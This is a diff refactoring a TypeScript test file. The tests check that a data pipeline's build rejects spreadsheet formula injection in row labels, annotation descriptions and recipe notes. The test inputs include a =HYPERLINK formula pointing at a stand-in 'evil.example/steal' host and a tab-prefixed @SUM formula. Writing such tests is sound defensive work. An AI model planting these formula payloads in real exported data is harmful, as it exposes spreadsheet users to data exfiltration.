@@ -1,39 +1,14 @@
-import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { build } from '../../../pipeline/build.js';
-import { PipelineError } from '../../../pipeline/errors.js';
 import { findFormulaCells, locateText } from '../../../pipeline/05-validate/index.js';
 import { projectPaths, type ProjectPaths } from '../../../pipeline/paths.js';
 import { SchemaRegistry } from '../../../pipeline/schemas.js';
-import { editRawText, makeFixtureProject } from '../../helpers/fixture-project.js';
+import { expectBuildFailure } from '../../helpers/expect-build-failure.js';
+import { editRawText } from '../../helpers/fixture-project.js';
 
 const schemas = new SchemaRegistry(projectPaths().schemas);
 const HYPERLINK = '=HYPERLINK("http://evil.example/steal")';
-
-/** Every byte of dist/ and datapackage.json, by path. */
-function publishedBytes(root: string): Map<string, Buffer> {
-  const dist = join(root, 'dist');
-  return new Map([
-    ...readdirSync(dist).sort().map((name): [string, Buffer] => [`dist/${name}`, readFileSync(join(dist, name))]),
-    ['datapackage.json', readFileSync(join(root, 'datapackage.json'))],
-  ]);
-}
-
-function buildError(edit: (paths: ProjectPaths) => void): { error: PipelineError; unchanged: boolean; fixture: ProjectPaths } {
-  const fixture = makeFixtureProject();
-  edit(fixture);
-  const before = publishedBytes(fixture.root);
-  let error: unknown;
-  try {
-    build({ paths: fixture });
-  } catch (caught) {
-    error = caught;
-  }
-  expect(error).toBeInstanceOf(PipelineError);
-  const after = publishedBytes(fixture.root);
-  return { error: error as PipelineError, unchanged: after.size === before.size && [...before].every(([path, bytes]) => after.get(path)?.equals(bytes)), fixture };
-}
 
 /** The 1-based line and column where `text` starts in a fixture's file: config files move as they grow. */
 function positionOf(fixture: ProjectPaths, file: string, text: string): { line: number; column: number } {
@@ -53,32 +28,30 @@ function editJson(paths: ProjectPaths, file: string, edit: (text: string) => str
 
 describe('a text cell a spreadsheet would run as a formula', () => {
   it('stops the build when a printed row label is one, naming the raw text line, with dist/ untouched', () => {
-    const { error, unchanged } = buildError((paths) => editRawText(paths, 'korea-commission-2005', (text) => text.replace('Wholesale non-food products, including animal feed 39,543.1', `${HYPERLINK} non-food products 39,543.1`)));
-    expect(error.code).toBe('CELL_FORMULA');
-    expect(error.context).toMatchObject({ file: 'raw/korea-commission-2005.txt', line: 1951, column: 1, seen: `${HYPERLINK} non-food products` });
+    const error = expectBuildFailure(
+      (paths) => editRawText(paths, 'korea-commission-2005', (text) => text.replace('Wholesale non-food products, including animal feed 39,543.1', `${HYPERLINK} non-food products 39,543.1`)),
+      { code: 'CELL_FORMULA', file: 'raw/korea-commission-2005.txt', line: 1951, column: 1, seen: `${HYPERLINK} non-food products` },
+    );
     expect(error.message).toContain('observations korea-commission-2005@');
-    expect(unchanged).toBe(true);
   });
 
   it("stops the build when an annotation's event description is one, naming the annotation file and line", () => {
     const file = 'pipeline/02-extract/annotations/china-2023.json';
-    const { error, unchanged, fixture } = buildError((paths) => editJson(paths, file, (text) => text.replace('"description": "Mexico begins recognizing', `"description": ${JSON.stringify(`${HYPERLINK} Mexico begins recognizing`).slice(0, -1)}`)));
-    expect(error.code).toBe('CELL_FORMULA');
-    const { line, column } = positionOf(fixture, file, '=HYPERLINK');
-    expect(error.context).toMatchObject({ file, line, column });
+    const error = expectBuildFailure(
+      (paths) => editJson(paths, file, (text) => text.replace('"description": "Mexico begins recognizing', `"description": ${JSON.stringify(`${HYPERLINK} Mexico begins recognizing`).slice(0, -1)}`)),
+      (paths) => ({ code: 'CELL_FORMULA', file, ...positionOf(paths, file, '=HYPERLINK') }),
+    );
     expect(error.context.seen).toMatch(/^=HYPERLINK\("http:\/\/evil\.example\/steal"\) Mexico begins/);
     expect(error.message).toContain('events china-2023@');
-    expect(unchanged).toBe(true);
   });
 
   it("stops the build when a recipe's note starts with a tab and a formula, naming the recipe file and line", () => {
     const file = 'pipeline/02-extract/recipes/korea-commission-2005.json';
-    const { error, unchanged, fixture } = buildError((paths) => editJson(paths, file, (text) => text.replace('"note": "The Asia-Pacific region', '"note": "\\t@SUM(A1) The Asia-Pacific region')));
-    expect(error.code).toBe('CELL_FORMULA');
-    const { line, column } = positionOf(fixture, file, '\\t@SUM');
-    expect(error.context).toMatchObject({ file, line, column });
+    const error = expectBuildFailure(
+      (paths) => editJson(paths, file, (text) => text.replace('"note": "The Asia-Pacific region', '"note": "\\t@SUM(A1) The Asia-Pacific region')),
+      (paths) => ({ code: 'CELL_FORMULA', file, ...positionOf(paths, file, '\\t@SUM') }),
+    );
     expect(error.context.seen).toMatch(/^\t@SUM\(A1\) The Asia-Pacific region/);
-    expect(unchanged).toBe(true);
   });
 });
 
